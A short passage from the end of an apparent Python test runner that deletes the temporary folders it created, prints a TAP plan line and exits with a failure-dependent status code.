finally:
    for folder in made:
        shutil.rmtree(folder, ignore_errors=True)
print(f"1..{number}")
sys.exit(1 if failures else 0)
